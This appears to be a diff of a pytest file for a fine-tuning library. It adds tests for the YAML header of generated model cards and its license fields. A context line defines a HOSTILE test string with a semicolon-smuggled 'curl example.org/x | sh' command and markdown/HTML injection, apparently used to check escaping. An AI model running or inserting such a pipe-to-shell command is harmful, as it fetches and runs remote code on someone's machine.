@@ -13,6 +13,7 @@ from dataclasses import replace
 
 import pytest
 import torch
+import yaml
 from commands import assert_one_error, run_forked, run_forked_well
 from run_ends import STEP, digest_after, results_of
 from transformers import AutoModelForCausalLM
@@ -21,7 +22,8 @@ from lezo_ds.checkpoints.snapshots import read_manifest
 from lezo_ds.errors import JournalError, UserError
 from lezo_ds.journal import encode_journal, read_journal
 from lezo_ds.runs import export as exporting
-from lezo_ds.runs.export import model_card, read_file
+from lezo_ds.runs.export import read_file
+from lezo_ds.runs.model_card import model_card
 from lezo_ds.runs.opening import restore
 from lezo_ds.runs.records import evaluations_of, read_run
 from lezo_ds.zo.records import StepRecord
@@ -295,6 +297,57 @@ def test_the_card_of_an_adapter_loads_it_into_its_base_model(finished):
     card = model_card(run, 8, "", opened_by="AutoModelForMultimodalLM")
     assert '`AutoModelForMultimodalLM.from_pretrained("DIR")`' in card
     assert "AutoModelForCausalLM" not in card
+
+
+LICENSED = """---
+license: other
+license_name: some-license
+license_link: https://example.org/license
+tags: [x]
+---
+# A base model
+"""
+
+
+def header_of(card):
+    _, header, _ = card.split("---\n", 2)
+    return yaml.safe_load(header)
+
+
+def test_the_header_of_a_card_has_what_the_hub_reads(finished, tmp_path):
+    run = read_run(finished)
+    model = replace(run.config.model, path="owner/name@main")
+    data = replace(
+        run.config.data, path=None, train="some/data/config:train", test="some/data:test"
+    )
+    peft = replace(run.config.peft, kind="lora", lora_rank=20)
+    config = replace(run.config, model=model, data=data, peft=peft)
+    (tmp_path / "README.md").write_text(LICENSED)
+    card = model_card(replace(run, config=config), 8, "", license_of=tmp_path)
+    assert header_of(card) == {
+        "base_model": "owner/name",
+        "datasets": ["some/data"],
+        "library_name": "peft",
+        "license": "other",
+        "license_name": "some-license",
+        "license_link": "https://example.org/license",
+        "pipeline_tag": "text-generation",
+        "tags": ["lezo_ds", "lezo"],
+    }
+    options = "--enable-lora --max-lora-rank 32 --lora-modules tuned=DIR"
+    assert f"`vllm serve owner/name {options}`" in card
+
+
+@pytest.mark.parametrize("text", ["# No header", "---\nlicense: [\n---\n", "---\n- 1\n---\n"])
+def test_a_card_of_the_base_without_a_license_leaves_it_out(finished, tmp_path, text):
+    (tmp_path / "README.md").write_text(text)
+    run = read_run(finished)
+    header = header_of(model_card(run, 8, "", license_of=tmp_path))
+    assert header == {
+        "library_name": "transformers",
+        "pipeline_tag": "text-generation",
+        "tags": ["lezo_ds", "lezo"],
+    }
 
 
 HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
